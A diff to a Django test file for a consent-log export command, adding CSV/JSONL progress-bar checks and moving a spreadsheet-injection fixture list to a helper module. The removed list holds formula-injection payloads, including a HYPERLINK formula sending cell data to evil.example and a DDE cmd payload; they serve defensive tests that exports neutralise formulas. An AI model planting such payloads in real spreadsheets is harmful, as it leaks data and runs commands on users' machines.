@@ -31,6 +31,7 @@ from consent.log.integration import integrate
 from consent.log.models import LogLeaf
 from consent.models import ConsentRecord
 from tests.factories import make_auditor, make_published, make_record, make_records, make_staff
+from tests.helpers import HOSTILE_TEXT, starts_a_formula
 
 pytestmark = pytest.mark.django_db
 
@@ -225,14 +226,25 @@ class Terminal(io.StringIO):
         return True
 
 
-def test_a_progress_bar_on_a_terminal_and_none_when_piped(log, tmp_path):
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_progress_bar_on_a_terminal_and_none_when_piped(log, tmp_path, fmt):
+    """The bar counts the bytes written, on stderr and only when it is a terminal; the export
+    and its proof are the same bytes either way."""
     terminal = Terminal()
-    call_command("export_consents", "--output", str(tmp_path / "a.csv"), stderr=terminal)
-    assert "\r[" + "#" * 30 + "] 100% 5/5 records" in terminal.getvalue()
+    shown, plain = tmp_path / f"shown.{fmt}", tmp_path / f"plain.{fmt}"
+    call_command("export_consents", "--format", fmt, "--output", str(shown), stderr=terminal)
+    _out, err = run_export("--format", fmt, "--output", str(plain))
 
-    _out, err = run_export("--output", str(tmp_path / "b.csv"))
+    size = shown.stat().st_size
+    bar = terminal.getvalue()
+    assert bar.startswith("\rExporting: 0.00B")
+    assert f"Exporting: {size / 1024:.2f}kB [" in bar  # every byte counted, none more
+    assert "Exported 5 records" in bar
     assert "\r" not in err
-    assert "#" not in err
+    assert "Exporting" not in err
+    assert shown.read_bytes() == plain.read_bytes()
+    if fmt == "csv":
+        assert Path(f"{shown}.proof.json").read_bytes() == Path(f"{plain}.proof.json").read_bytes()
 
 
 # Over HTTP
@@ -618,30 +630,6 @@ def test_bad_proof_parameters_are_a_clear_400(auditor_client, log, query, messag
 
 
 # Spreadsheets: text a visitor sent runs no formula, and the export still verifies
-
-# What a visitor can make a path or a user agent begin with, or hold after a separator.
-HOSTILE_TEXT = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1,2)",
-    "\t=1+1",
-    "\r=1+1",
-    "'=1+1",
-    "'already quoted",
-    "/a;=1+1",
-    "/a,=1+1",
-    '/a\t@x\r+y\n-z,"=w";\'v',
-    "Mozilla/5.0 (X11; Linux x86_64; rv:133) Gecko Firefox/133 ;-)",
-    "''",
-]
-
-
-def starts_a_formula(text):
-    """Return whether a spreadsheet could take any part of a cell's text for a formula: its
-    start, or what follows a separator or a line break it may split the cell on."""
-    pieces = re.split(r"[,;\t\r\n]", text)
-    return any(piece[:1] in tuple("=+-@\t\r\n") for piece in [text, *pieces])
 
 
 def hostile_records():
